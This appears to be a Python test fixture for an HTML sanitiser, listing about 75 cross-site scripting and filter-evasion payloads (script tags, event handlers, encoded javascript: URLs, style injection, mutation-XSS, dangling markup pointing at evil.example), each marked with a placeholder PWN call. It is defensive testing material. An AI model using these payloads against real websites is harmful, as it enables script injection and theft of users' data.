"""Known HTML filter-evasion techniques, written for these tests from public
knowledge of how sanitisers have been bypassed. In every payload the
executable part carries the marker `PWN`, so a test can also check that no
executable text survives as content."""

from __future__ import annotations

MARKER = "PWN"

PAYLOADS: dict[str, str] = {
    # script elements, plain and disguised
    "script": "<script>PWN()</script>",
    "script upper case": "<SCRIPT>PWN()</SCRIPT>",
    "script with src": '<script src="https://evil.example/PWN.js"></script>',
    "script split by null": '<scr\x00ipt src="https://evil.example/PWN.js"></scr\x00ipt>',
    "script in attribute-less tag soup": "<<script>PWN()//<</script>",
    "script after fake closing": '<script>/*</script><script>PWN()</script>',
    "script inside svg": "<svg><script>PWN()</script></svg>",
    "script inside math": "<math><mtext><script>PWN()</script></mtext></math>",
    "script in noscript attribute": '<noscript><p title="</noscript><img src=x onerror=PWN()>">',
    "script in template": "<template><script>PWN()</script></template>",
    "nested comment breakout": "<!--<img src=\"--><img src=x onerror=PWN()>\">",
    "conditional comment": "<!--[if IE]><script>PWN()</script><![endif]-->",
    "cdata breakout": "<![CDATA[<]]><script>PWN()</script>",
    # event handlers
    "img onerror": "<img src=x onerror=PWN()>",
    "img onerror with slash separator": "<img/src=x/onerror=PWN()>",
    "img onerror with newline": "<img src=x\nonerror\n=\nPWN()>",
    "body onload": "<body onload=PWN()>",
    "svg onload": "<svg onload=PWN()>",
    "svg animate": '<svg><animate onbegin=PWN() attributeName=x dur=1s>',
    "details ontoggle": "<details open ontoggle=PWN()>",
    "input autofocus": "<input autofocus onfocus=PWN()>",
    "video source onerror": "<video><source onerror=PWN()></video>",
    "marquee onstart": "<marquee onstart=PWN()>x</marquee>",
    "mixed-case handler": "<p OnMouseOver=PWN()>hover</p>",
    "handler with backticks": "<p onclick=`PWN()`>x</p>",
    # javascript:, vbscript:, data: URLs with encoding tricks
    "javascript href": '<a href="javascript:PWN()">a</a>',
    "javascript mixed case": '<a href="JaVaScRiPt:PWN()">a</a>',
    "javascript with tab": '<a href="java\tscript:PWN()">a</a>',
    "javascript with newline": '<a href="java\nscript:PWN()">a</a>',
    "javascript with leading space": '<a href=" javascript:PWN()">a</a>',
    "javascript with leading control": '<a href="\x01javascript:PWN()">a</a>',
    "javascript decimal entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;PWN()">a</a>',
    "javascript hex entities": '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;PWN()">a</a>',
    "javascript padded entities": '<a href="&#0000106;&#0000097;vascript:PWN()">a</a>',
    "javascript entity colon": '<a href="javascript&colon;PWN()">a</a>',
    "javascript entity tab": '<a href="java&Tab;script:PWN()">a</a>',
    "javascript unquoted": "<a href=javascript:PWN()>a</a>",
    "vbscript": '<a href="vbscript:PWN()">a</a>',
    "data html": '<a href="data:text/html;base64,PHNjcmlwdD5QV04oKTwvc2NyaXB0Pg==#PWN">a</a>',
    "data svg image": '<img src="data:image/svg+xml,<svg onload=PWN()>">',
    "iframe src javascript": '<iframe src="javascript:PWN()"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>PWN()</script>"></iframe>',
    "form action": '<form action="javascript:PWN()"><button>go</button></form>',
    "button formaction": '<button formaction="javascript:PWN()">go</button>',
    "object data": '<object data="javascript:PWN()"></object>',
    "embed src": '<embed src="javascript:PWN()">',
    "svg xlink href": '<svg><a xlink:href="javascript:PWN()"><text>x</text></a></svg>',
    "math href": '<math href="javascript:PWN()">x</math>',
    "area href": '<map><area href="javascript:PWN()"></map>',
    "base href": '<base href="javascript:PWN()//">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:PWN()">',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/PWN.css">',
    "link import": '<link rel="import" href="https://evil.example/PWN.html">',
    # style injection
    "style element": "<style>body{background:url('javascript:PWN()')}</style>",
    "style import": "<style>@import 'https://evil.example/PWN.css';</style>",
    "style attribute expression": '<p style="width:expression(PWN())">x</p>',
    "style attribute url": '<p style="background-image:url(javascript:PWN())">x</p>',
    "style attribute behavior": '<p style="behavior:url(PWN.htc)">x</p>',
    "style with escapes": '<p style="background:u\\72l(javascript:PWN())">x</p>',
    "svg style": "<svg><style>*{fill:url(javascript:PWN())}</style></svg>",
    # mutation XSS and parser differentials
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=PWN()>"></noscript>',
    "svg foreignObject": '<svg><foreignObject><img src=x onerror=PWN()></foreignObject></svg>',
    "math mglyph style": '<math><mtext><table><mglyph><style><img src=x onerror=PWN()>',
    "textarea breakout": '<textarea></textarea><img src=x onerror=PWN()></textarea>',
    "title breakout": "<title></title><img src=x onerror=PWN()>",
    "xmp breakout": "<xmp></xmp><img src=x onerror=PWN()>",
    "unclosed attribute": '<img src="x" alt="<img src=x onerror=PWN()>',
    "attribute without quotes and gt": '<a title=">"<img src=x onerror=PWN()>',
    "dangling markup": '<img src="https://evil.example/PWN?',
    "object param": '<object><param name="src" value="javascript:PWN()"></object>',
    "applet": '<applet code="PWN.class"></applet>',
    "frameset": '<frameset onload=PWN()><frame src="javascript:PWN()">',
    "isindex": '<isindex action="javascript:PWN()" type=image>',
    "html5 entity in scheme": '<a href="jav&NewLine;ascript&colon;PWN()">a</a>',
    "unicode escapes in scheme": '<a href="\u006aavascript:PWN()">a</a>',
    "fullwidth scheme": '<a href="ｊａｖａｓｃｒｉｐｔ:PWN()">a</a>',
}


def wrapped(payload: str) -> str:
    """A payload inside an otherwise ordinary wire story."""
    return ("<html><head><title>Storm closes ports</title></head><body><article>"
            "<h1>Storm closes ports along the coast</h1>"
            "<p>By Jane Reporter</p>"
            "<p>LISBON (Wire) - A storm closed three ports on Tuesday, the harbour "
            "authority said, as waves of up to nine metres hit the coast.</p>"
            f"{payload}"
            "<p>Ferries were cancelled and fishing boats stayed in port, officials said.</p>"
            "</article></body></html>")
